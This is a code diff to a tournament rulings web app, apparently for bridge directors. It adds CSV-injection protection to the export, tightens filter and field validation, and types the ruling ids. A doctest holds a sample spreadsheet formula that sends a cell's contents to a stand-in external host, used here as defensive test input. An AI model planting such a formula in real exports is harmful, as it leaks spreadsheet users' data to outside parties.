@@ -9,12 +9,13 @@ import datetime as dt
 import io
 import json
 
-from fastapi import APIRouter, Depends, HTTPException, Request
+from fastapi import APIRouter, Depends, Request
 from fastapi.responses import HTMLResponse, RedirectResponse, Response
-from sqlalchemy import func, or_
+from sqlalchemy import false, func, or_
 
 from ..i18n import message
 from .db import Director, EventRow, RulingRow, now, select
+from .limits import Id, PageError, whole_number
 from .web import check_csrf, lang_of, render, require_director
 
 router = APIRouter()
@@ -41,10 +42,11 @@ def _search(s, params) -> list[RulingRow]:
                         func.lower(RulingRow.scenario).like(like),
                         func.lower(RulingRow.choice).like(like),
                         func.lower(RulingRow.adjusted).like(like)))
-    if (params.get("event") or "").isdigit():
-        q = q.where(RulingRow.event_id == int(params["event"]))
-    if (params.get("board") or "").isdigit():
-        q = q.where(RulingRow.board == int(params["board"]))
+    for name, column in (("event", RulingRow.event_id), ("board", RulingRow.board)):
+        text = (params.get(name) or "").strip()
+        if text:                        # a number no ruling can have matches none
+            n = whole_number(text)
+            q = q.where(column == n if n is not None else false())
     if (params.get("director") or "").strip():
         q = q.where(RulingRow.director == params["director"].strip())
     if params.get("appeal") in ("lodged", "decided"):
@@ -89,8 +91,29 @@ def export_json(request: Request, d: Director = Depends(require_director)):
                     headers={"Content-Disposition": 'attachment; filename="rulings.json"'})
 
 
+#: the first characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection)
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value):
+    """A CSV cell that no spreadsheet runs as a formula: a text starting with ``=``,
+    ``+``, ``-``, ``@``, a tab or a carriage return gets a ``'`` in front (OWASP's rule
+    for CSV injection); numbers and other texts are unchanged.
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://x.example/?"&A1,"see")'))
+    '=HYPERLINK("http://x.example/?"&A1,"see")
+    >>> spreadsheet_safe("-1"), spreadsheet_safe(-1), spreadsheet_safe("4S= N")
+    ("'-1", -1, '4S= N')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
 @router.get("/rulings/export.csv")
 def export_csv(request: Request, d: Director = Depends(require_director)):
+    """The rulings found, as CSV (UTF-8 with a byte-order mark, for spreadsheets); every
+    text cell is :func:`spreadsheet_safe`."""
     params = _filters(request)
     buf = io.StringIO()
     w = csv.writer(buf)
@@ -98,8 +121,10 @@ def export_csv(request: Request, d: Director = Depends(require_director)):
     with request.app.state.store.session() as s:
         for r in _search(s, params):
             row = _row_dict(r)
-            w.writerow([json.dumps(v, ensure_ascii=False) if isinstance(v, (list, dict))
-                        else ("" if v is None else v) for v in row.values()])
+            w.writerow([spreadsheet_safe(json.dumps(v, ensure_ascii=False)
+                                         if isinstance(v, (list, dict))
+                                         else ("" if v is None else v))
+                        for v in row.values()])
     return Response("\ufeff" + buf.getvalue(), media_type="text/csv; charset=utf-8",
                     headers={"Content-Disposition": 'attachment; filename="rulings.csv"'})
 
@@ -107,7 +132,7 @@ def export_csv(request: Request, d: Director = Depends(require_director)):
 def _ruling(s, ruling_id: int) -> RulingRow:
     r = s.get(RulingRow, ruling_id)
     if r is None:
-        raise HTTPException(404, f"no ruling {ruling_id}")
+        raise PageError(404, "ui.error.no_ruling", id=ruling_id)
     return r
 
 
@@ -124,7 +149,7 @@ def appeal_deadline(s, r: RulingRow) -> dt.datetime | None:
 
 
 @router.get("/rulings/{ruling_id}", response_class=HTMLResponse)
-def detail(request: Request, ruling_id: int, d: Director = Depends(require_director)):
+def detail(request: Request, ruling_id: Id, d: Director = Depends(require_director)):
     with request.app.state.store.session() as s:
         r = _ruling(s, ruling_id)
         ev = s.get(EventRow, r.event_id) if r.event_id else None
@@ -134,7 +159,7 @@ def detail(request: Request, ruling_id: int, d: Director = Depends(require_direc
 
 
 @router.post("/rulings/{ruling_id}/appeal", response_class=HTMLResponse)
-async def lodge(request: Request, ruling_id: int, d: Director = Depends(require_director)):
+async def lodge(request: Request, ruling_id: Id, d: Director = Depends(require_director)):
     """Lodge an appeal (Law 92A) within the correction period (92B)."""
     form = await request.form()
     check_csrf(request, form.get("csrf"))
@@ -150,6 +175,9 @@ async def lodge(request: Request, ruling_id: int, d: Director = Depends(require_
             error = message("ui.appeal.too_late", lang, until=deadline.strftime("%H:%M"))
         elif not values["appeal_by"]:
             error = message("ui.appeal.need_by", lang)
+        elif len(values["appeal_by"]) > 120:      # the column's width (ruling.appeal_by)
+            error = (f"{message('ui.appeal.by', lang)}: "
+                     f"{message('ui.err.too_long', lang, n=120, length=len(values['appeal_by']))}")
         if error:
             ev = s.get(EventRow, r.event_id) if r.event_id else None
             return render(request, "ruling.html", status_code=400, r=r, ev=ev,
@@ -161,7 +189,7 @@ async def lodge(request: Request, ruling_id: int, d: Director = Depends(require_
 
 
 @router.post("/rulings/{ruling_id}/decide", response_class=HTMLResponse)
-async def decide(request: Request, ruling_id: int, d: Director = Depends(require_director)):
+async def decide(request: Request, ruling_id: Id, d: Director = Depends(require_director)):
     """Record the outcome of a lodged appeal (Law 93)."""
     form = await request.form()
     check_csrf(request, form.get("csrf"))
